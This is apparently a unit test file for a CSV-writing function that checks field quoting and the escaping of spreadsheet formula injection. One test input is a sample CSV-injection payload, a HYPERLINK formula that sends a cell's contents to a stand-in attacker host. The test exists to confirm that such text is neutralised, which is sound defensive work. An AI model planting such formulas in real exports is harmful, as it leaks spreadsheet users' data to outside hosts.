import { describe, expect, it } from 'vitest';
import { csvLine } from './csv.js';

describe('csvLine', () => {
  it('quotes only where needed and writes null as an empty field', () => {
    expect(csvLine(['a', 'b,c', 'say "hi"', null, 1970, true])).toBe('a,"b,c","say ""hi""",,1970,true');
  });

  it('neutralises text a spreadsheet would run as a formula, and only text', () => {
    expect(csvLine(['=HYPERLINK("http://evil.example/?x="&A1,"click")'])).toBe(
      '"\'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")"',
    );
    expect(csvLine(['=2+5', '+', '-', '@SUM(A1)', '\tx', '\rx'])).toBe("'=2+5,'+,'-,'@SUM(A1),'\tx,\"'\rx\"");
    expect(csvLine([-12.5, 0, 'Tinto', 'a=b'])).toBe('-12.5,0,Tinto,a=b');
  });
});
